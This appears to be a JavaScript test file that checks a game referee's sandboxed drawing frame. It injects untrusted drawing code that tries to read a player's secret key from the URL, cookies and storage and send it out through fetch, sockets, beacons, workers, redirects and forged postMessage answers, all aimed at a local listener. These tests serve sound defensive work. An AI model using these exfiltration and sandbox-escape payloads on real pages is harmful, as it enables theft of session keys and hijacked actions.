// The drawing of a stranger's game: whatever it tries, it gets no key, plays no move, leads nowhere, reaches nobody and
// holds nobody up; and it is a stranger's wherever it isn't among the installed games, whatever its name.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { drawingOf, settled } from "./checks.mjs";
import { begin, isIn, nextQuestion } from "./play/human.mjs";
import { build, firefox, folder, gamesOf, goTo, keepPicture, referee, source, textOf, until, useBrowser } from "./support.mjs";

const browser = useBrowser();

/** Whatever connects to it was reached from a page. */
const reached = /** @type {string[]} */ ([]);
const net = createServer((socket) => {
  reached.push("a connection");
  socket.on("data", (data) => reached.push(String(data).slice(0, 200)));
  socket.on("error", () => {});
});
let address = "";
before(() => new Promise((done) => net.listen(0, "127.0.0.1", () => {
  address = `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (net.address()).port}`;
  done(null);
})));
after(() => net.close());

/** A drawing that does something, and otherwise is one. @param {{atStart?: string, inDraw?: string, style?: string, parts?: string, more?: string}} does */
const drawingThat = ({ atStart = "", inDraw = "", style = "", parts = "", more = "" }) => `
import { svg } from "view/svg.js";
export const version = 1;
const found = [];
const attempt = (name, what) => {
  try {
    const got = what();
    if (got instanceof Promise) { got.then((value) => found.push(name + ": " + value), () => {}); } else if (got) { found.push(name + ": " + got); }
  } catch {}
};
${atStart}
export const board = (first) => ({
  box: [0, 0, 100, 40],
  cell: 10,
  centre: (x, y) => [10 * x, 10 * y],
  draw({ frame, keep }) {
    ${inDraw}
    return [svg("text", { x: 4, y: 20, "font-size": 8, class: "stones" }, "stones " + frame.heaps.join(" ")), svg("text", { x: 4, y: 30, "font-size": 3, class: "found" }, found.join(" | ")) ${parts}];
  },
  text: (frame) => "stones " + frame.heaps.join(" "),
  status: (frame) => "stones " + frame.heaps.join(" "),
  gauges: () => [],
  fate: () => "",
  sample: () => ({ box: [0, 0, 10, 10], parts: [svg("circle", { cx: 5, cy: 5, r: 4 })] }),
});
export const style = \`${style}\`;
${more}
`;

let made = 0;
/** A game with this drawing, and a field of it. @param {string} drawing */
function gameWith(drawing) {
  const name = `stranger_${++made}`;
  const place = join(folder, `cup-${made}`, "games", name);
  mkdirSync(join(place, ".."), { recursive: true });
  execFileSync(join(build, "referee"), ["new-game", "--language", "Python", place], { stdio: "pipe" });
  writeFileSync(join(place, "board.js"), drawing);
  const field = join(place, "../../field.dat");
  process.env.REFEREE_GAMES = [join(place, ".."), process.env.REFEREE_GAMES].filter(Boolean).join(":");
  referee("create", field, "--rules", place, "--set", "heaps=2", "--set", "stones=3", "--seed", "5");
  return { name, place, field, ai: join(place, "reference") };
}

/** A person's page in a match of the real referee. @param {string} drawing */
async function seatWith(drawing) {
  const game = gameWith(drawing);
  const { run, record, links } = await begin(game.name, game.field, ["Ada=human", `Ben=${game.ai}`]);
  const key = new URL(links.Ada).hash.replace("#key=", "");
  assert.match(key, /^\w{20,}$/);
  const page = await browser.open(links.Ada);
  await isIn(page, "move");
  return { ...game, run, record, key, link: links.Ada, page };
}

/** The person plays to the end with the first button. Returns what was sent. @param {import("playwright-core").Page} page */
async function playOn(page) {
  const sent = [];
  for (let last = ""; await nextQuestion(page, last); ) {
    last = await page.getAttribute("#hand", "data-question");
    await page.waitForSelector(".hand-controls button:not(:disabled)");
    const button = (await page.$$(".hand-controls button:not(:disabled)"))[0];
    sent.push(await button.getAttribute("data-answer"));
    await button.click();
  }
  return sent;
}

/** Only the person has played in the person's seat. @param {string} record @param {(string | null)[]} sent */
function onlyThesePlayed(record, sent) {
  const games = gamesOf(record);
  const own = games.flatMap(({ head, moves }) => moves.filter((move) => head.seats.find((/** @type {any} */ { seat }) => seat === move.seat).name === "Ada"));
  assert.deepEqual(own.map((move) => move.move.trim()), sent);
}

/** What code may try that runs where a drawing runs. @param {string} to */
const attempts = (to) => `
  const to = ${JSON.stringify(to)};
  attempt("hash", () => /key/.test(String(self.location.hash)) && location.hash);
  attempt("address", () => /key=|127.0.0.1/.test(String(self.location.href)) && location.href);
  attempt("base", () => /key=/.test(document.baseURI) && document.baseURI);
  attempt("referrer", () => document.referrer);
  attempt("parent", () => parent.location.hash);
  attempt("parent's document", () => parent.document.body.textContent);
  attempt("top", () => top.location.href);
  attempt("opener", () => opener.location.href);
  attempt("cookie", () => document.cookie);
  attempt("local storage", () => { localStorage.x = "1"; return "kept"; });
  attempt("session storage", () => { sessionStorage.x = "1"; return "kept"; });
  attempt("database", () => new Promise((done, fail) => { const open = indexedDB.open("x"); open.onsuccess = () => done("kept"); open.onerror = fail; }));
  attempt("caches", () => caches.open("x").then(() => "kept"));
  attempt("fetch", () => fetch(to + "/fetch", { mode: "no-cors", method: "POST", body: "x" }).then(() => "sent"));
  attempt("request", () => { const request = new XMLHttpRequest(); request.open("GET", to + "/request", false); request.send(); return "sent"; });
  attempt("socket", () => new WebSocket(to.replace("http", "ws") + "/socket") && "");
  attempt("events", () => new EventSource(to + "/events") && "");
  attempt("transport", () => new WebTransport(to.replace("http:", "https:")) && "");
  attempt("beacon", () => navigator.sendBeacon(to + "/beacon", "x") && "");
  attempt("script", () => importScripts(to + "/script.js"));
  attempt("module", () => import(to + "/module.js").then(() => "loaded"));
  attempt("worker", () => new Worker(to + "/worker.js") && "");
  attempt("shared worker", () => new SharedWorker(to + "/shared.js") && "");
  attempt("service worker", () => navigator.serviceWorker.register(to + "/service.js").then(() => "registered"));
  attempt("peer", () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:") }] }); peer.createDataChannel("x"); return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => ""); });
  attempt("window", () => open(to + "/window") && "opened");
  attempt("top's way", () => { top.location = to + "/top"; });
  attempt("code", () => eval("1") && "ran");
`;
/** The same that ends the frame where it isn't refused. @param {string} to */
const ways = (to) => `
  const refresh = document.createElement("meta");
  refresh.setAttribute("http-equiv", "refresh");
  refresh.setAttribute("content", "0;url=${to}/refresh");
  document.head.append(refresh);
  const form = document.createElement("form");
  form.action = "${to}/form";
  document.body.append(form);
  form.submit();
  location.href = "${to}/way?" + document.documentElement.outerHTML.length;
`;

test("a drawing finds no key and reaches nothing", async () => {
  const { page, key, link, record, run } = await seatWith(drawingThat({
    atStart: attempts(address),
    style: `@import url(${address}/import); body { background: url(${address}/ground); } @font-face { font-family: x; src: url(${address}/font); } text { font-family: x; }`,
    parts: `, ...["script", "iframe", "image", "a", "foreignObject", "style", "link", "img", "object", "embed", "meta", "base", "animate", "set"].map((name) => svg(name, {
        href: "${address}/" + name, src: "${address}/" + name, data: "${address}/" + name, rel: "preconnect", content: "0;url=${address}/meta", "http-equiv": "refresh", onload: "top.location='${address}/run'", onclick: "x" }, "parent.postMessage('x', '*')")),
      svg("use", { href: "${address}/use#x" }), svg("rect", { width: 5, height: 5, fill: "url(${address}/fill#x)", style: "background: url(${address}/style)", onmouseover: "x", "xlink:href": "${address}/link" })`,
  }));
  const drawing = await drawingOf(page);
  assert.notEqual(drawing, page.mainFrame());
  await keepPicture(page, "stranger-attempts");
  // What it found is what it draws.
  assert.equal(await textOf(/** @type {any} */ (drawing), ".found"), "");
  const inFrame = await drawing.evaluate(() => document.documentElement.outerHTML);
  assert.ok(!inFrame.includes(key));
  assert.deepEqual(await drawing.$$eval("#board svg *", (all) => [...new Set(all.map((each) => each.localName))].sort()), ["defs", "path", "pattern", "rect", "text", "title", "use"]);
  assert.deepEqual(await drawing.$$eval("#board svg *", (all) => all.flatMap((each) => [...each.attributes].map(({ name, value }) => `${name}=${value}`)).filter((text) => /^on|http/.test(text))), []);
  assert.equal(page.url().split("#")[0], link.split("#")[0]);
  assert.equal(page.context().pages().length, 1);
  const sent = await playOn(page);
  assert.equal(await run.ended, 0, run.err);
  onlyThesePlayed(record, sent);
  assert.deepEqual(reached, []);
});

test("code that has broken out into the frame finds no key and reaches nothing, either", async () => {
  const { page, key, link, record, run } = await seatWith(drawingThat({}));
  const drawing = await drawingOf(page);
  assert.equal(await drawing.evaluate(() => self.origin), "null");
  const found = await drawing.evaluate(`(async () => {
    const found = [];
    const later = [];
    const attempt = (name, what) => {
      try {
        const got = what();
        if (got instanceof Promise) { later.push(got.then((value) => value && found.push(name + ": " + value), () => {})); } else if (got) { found.push(name + ": " + got); }
      } catch {}
    };
    ${attempts(address).replace(/attempt\("code".*\n/, "")} // what a debugger runs may eval
    for (const [name, more] of [["img", {}], ["script", {}], ["iframe", {}], ["link", { rel: "stylesheet" }], ["link", { rel: "preload", as: "image" }], ["link", { rel: "prefetch" }], ["object", {}], ["embed", {}], ["video", {}], ["audio", {}]]) {
      const element = Object.assign(document.createElement(name), more);
      for (const key of ["src", "href", "data"]) { element.setAttribute(key, to + "/" + name); }
      document.body.append(element);
    }
    const form = document.createElement("form");
    form.action = to + "/form";
    form.target = "_top";
    document.body.append(form);
    attempt("form", () => form.submit());
    const link = Object.assign(document.createElement("a"), { href: to + "/link", target: "_blank", ping: to + "/ping" });
    document.body.append(link);
    attempt("link", () => link.click());
    const save = Object.assign(document.createElement("a"), { href: "data:,x", download: "x" });
    document.body.append(save);
    attempt("download", () => save.click());
    attempt("dialog", () => confirm("x") && "asked");
    await Promise.allSettled(later);
    return found;
  })()`);
  assert.deepEqual(found, []);
  assert.ok(!JSON.stringify(await drawing.evaluate(() => [document.baseURI, document.referrer, location.href])).includes(key));
  // It says that the person has chosen, and answers requests that nobody has made: in all forms that the page knows.
  await drawing.evaluate(() => {
    for (let id = 0; id < 50; ++id) {
      for (const value of [{ number: 1, choices: ["1 1"] }, { answer: 0 }, 0, "1 1", { buttons: [{ answer: 0, label: "x", keys: ["Enter"] }] }]) {
        parent.postMessage({ id, value }, "*");
        parent.postMessage(value, "*");
        parent.postMessage({ kind: "answer", choice: 0, key: "x" }, "*");
      }
    }
  });
  await settled(page);
  assert.equal(page.url().split("#")[0], link.split("#")[0]);
  assert.equal(page.context().pages().length, 1);
  assert.equal(await page.getAttribute("#hand", "data-state"), "move");
  // At last it goes elsewhere, with all it knows.
  await drawing.evaluate(ways(address)).catch(() => {}); // that ends what is evaluated
  await until(page, () => document.querySelector("#hand")?.getAttribute("data-state") === "move");
  const sent = await playOn(page);
  assert.equal(await run.ended, 0, run.err);
  onlyThesePlayed(record, sent);
  assert.deepEqual(reached, []);
  assert.ok(existsSync(record) && !readFileSync(record, "utf8").includes(key));
});

/** What a drawing may do instead of drawing, and what the page says of it. @type {[string, Parameters<typeof drawingThat>[0], RegExp][]} */
const breaks = [
  ["loops for ever when it is loaded", { atStart: "for (;;) {}" }, /it doesn't answer/],
  ["loops for ever when it draws", { inDraw: "for (;;) {}" }, /it doesn't answer/],
  ["floods its frame with messages", { atStart: "for (;;) { postMessage({ id: 7, value: { answer: 0 } }); }" }, /it sends what nobody has asked for|it doesn't answer/],
  ["answers before it is asked", { inDraw: "postMessage({ id: 1, value: 0 });" }, /it sends what nobody has asked for/],
  ["answers what it was never asked", { inDraw: "postMessage({ id: 1e9, value: null }); for (;;) {}" }, /it sends what nobody has asked for/],
  ["ends its worker", { atStart: "close();" }, /it doesn't answer/],
  ["throws when it draws", { inDraw: "throw new Error('no picture');" }, /no picture/],
  ["draws without end", { inDraw: "const all = []; for (;;) { all.push(svg('g')); }" }, /it doesn't answer|it has a mistake/],
  ["is no module", { atStart: "export const export;" }, /SyntaxError/],
];
for (const [what, does, says] of breaks) {
  test(`a drawing that ${what} costs the person nothing but the drawing`, async () => {
    const { page, record, run, key } = await seatWith(drawingThat(does));
    await until(page, () => document.getElementById("notice").textContent !== "");
    const notice = await textOf(page, "#notice");
    assert.match(notice, says);
    assert.match(notice, /the page shows the text picture instead/);
    assert.ok(!notice.includes(key));
    assert.equal(await page.$("iframe"), null);
    assert.match(await textOf(page, "#board .picture"), /heap 1/);
    const sent = await playOn(page);
    assert.equal(await run.ended, 0, run.err);
    onlyThesePlayed(record, sent);
  });
}

test("a drawing's buttons, as far as they are choices, are the person's", async () => {
  const { page, record, run } = await seatWith(drawingThat({ more: `
    export const hand = (question) => ({
      hint: "\\u202eTake <b>stones</b>",
      buttons: [...question.choices.map((answer, i) => ({ answer, label: "take " + answer, keys: [String(i + 1)] })),
        { answer: "9 9", label: "what isn't offered", keys: ["x"] }, { answer: 0, label: "a number", keys: [] }, { answer: "constructor", label: "a name", keys: [] }],
    });` }));
  await page.waitForSelector(".hand-controls button:not(:disabled)");
  const labels = await page.$$eval(".hand-controls button .word", (all) => all.map((each) => each.textContent));
  const answers = await page.$$eval(".hand-controls button", (all) => all.map((each) => each.dataset.answer));
  assert.deepEqual(labels, answers.map((answer) => `take ${answer}`));
  assert.equal(await textOf(page, "#hand .hint"), "Your seat: blue. \\u202eTake <b>stones</b>");
  const sent = await playOn(page);
  assert.equal(await run.ended, 0, run.err);
  onlyThesePlayed(record, sent);
});

/** A finished match of a game. @param {ReturnType<typeof gameWith>} game */
function playedOf({ name, field, ai }) {
  const record = join(folder, `${name}.jsonl`);
  referee(field, "--ai", `A=${ai}`, "--ai", `B=${ai}`, "--record", record, "--seats", "fixed");
  return record;
}

test("replay, embedded replay, site and its front page show a stranger's drawing, and it reaches nothing", async () => {
  const game = gameWith(drawingThat({ atStart: attempts(address), style: `text { fill: var(--ink); }` }));
  const record = playedOf(game);
  const html = join(folder, `${game.name}.html`);
  referee("replay", record, "--rules", game.place, "--html", html);
  const [{ turns }] = gamesOf(record);
  const drawn = async (/** @type {import("playwright-core").Page} */ page) => {
    const drawing = await drawingOf(page);
    assert.notEqual(drawing, page.mainFrame());
    assert.equal(await textOf(/** @type {any} */ (drawing), ".found"), "");
    return textOf(/** @type {any} */ (drawing), ".stones");
  };
  for (const place of ["", "embed&"]) {
    const page = await browser.open(html, `${place}game=1&turn=${turns[0].turn}`);
    assert.equal(await drawn(page), `stones ${turns[0].state.heaps.join(" ")}`);
    await keepPicture(page, `stranger-replay-${place ? "embedded" : "whole"}`);
    if (!place) {
      await goTo(page, `game=1&turn=${turns[turns.length - 1].turn}`);
      assert.equal(await drawn(page), `stones ${turns[turns.length - 1].state.heaps.join(" ")}`);
      assert.match(await textOf(page, "#status"), /^stones 0 0/);
      // The picture that is saved is the one drawn, and nothing runs in it.
      const saved = page.waitForEvent("download");
      await page.keyboard.press("s");
      const text = readFileSync(await (await saved).path(), "utf8");
      assert.match(text, /^<svg[^>]*>.*>stones 0 0</s);
      assert.doesNotMatch(text, /script|http:\/\/127/);
    }
  }
  const site = join(folder, `site-${game.name}`);
  referee("tournament", "--fields", game.field, "--rules", game.place, "--ai", `A=${game.ai}`, "--ai", `B=${game.ai}`, "--out", site);
  const replay = await browser.open(join(site, "site/replay/000001.html"), "game=1");
  assert.match(await drawn(replay), /^stones \d/);
  await keepPicture(replay, "stranger-site-replay");
  const front = await browser.open(join(site, "site/index.html"));
  assert.match(await drawn(front), /^stones \d/);
  assert.deepEqual(reached, []);
});

test("a name makes no game ours", async () => {
  const cup = join(folder, "cup-of-names");
  const stranger = join(cup, "games/bazaar");
  mkdirSync(join(cup, "games"), { recursive: true });
  cpSync(join(source, "referee/games/bazaar"), stranger, { recursive: true });
  writeFileSync(join(stranger, "board.js"), `${readFileSync(join(stranger, "board.js"), "utf8")}\n// a stranger's\n`);
  const field = join(cup, "field.dat");
  referee("create", field, "--game", "bazaar", "--seed", "1", "--set", "rounds=2");
  const page = join(cup, "page.html");
  const record = join(cup, "match.jsonl");
  const reference = join(build, "ai/bazaar/reference");
  const players = ["A", "B", "C"].flatMap((name) => ["--ai", `${name}=${reference}`]);
  // Beside the field, with the same rules: the installed one is taken.
  referee(field, ...players, "--seats", "fixed", "--record", record, "--html", page);
  assert.match(readFileSync(page, "utf8"), /"drawing":true/);
  const ours = await browser.open(page, "game=1&turn=1");
  assert.equal(await ours.$("iframe"), null);
  assert.ok(await ours.$("#board .market"));
  // Named by its folder, it is a stranger's.
  referee("replay", record, "--rules", stranger, "--html", page, "--force");
  assert.match(readFileSync(page, "utf8"), /"drawing":"framed"/);
  const named = await browser.open(page, "game=1&turn=1");
  const drawing = await drawingOf(named);
  assert.notEqual(drawing, named.mainFrame());
  assert.ok(await drawing.$("#board .market"));
});

test("in Firefox, too, the drawing is in its frame, and one that loops for ever holds nobody up", { skip: existsSync(firefox) ? false : "no Firefox" }, async () => {
  const { default: playwright } = await import("playwright-core");
  const other = await /** @type {any} */ (playwright)._bidiFirefox.launch({ executablePath: firefox });
  try {
    for (const [does, is] of /** @type {const} */ ([[{ atStart: attempts(address) }, "drawn"], [{ inDraw: "for (;;) {}" }, "broken"]])) {
      const game = gameWith(drawingThat(does));
      const html = join(folder, `${game.name}.html`);
      referee("replay", playedOf(game), "--rules", game.place, "--html", html);
      const page = await (await other.newContext()).newPage();
      await page.goto(`file://${html}#game=1`);
      if (is === "drawn") {
        await page.waitForSelector("iframe.drawing[data-waits='0']");
        await until(page, () => /^stones/.test(document.getElementById("status").textContent));
      } else {
        await until(page, () => /it doesn't answer/.test(document.getElementById("notice").textContent));
        await page.keyboard.press("ArrowRight");
      }
    }
    assert.deepEqual(reached, []);
  } finally {
    await other.close();
  }
});
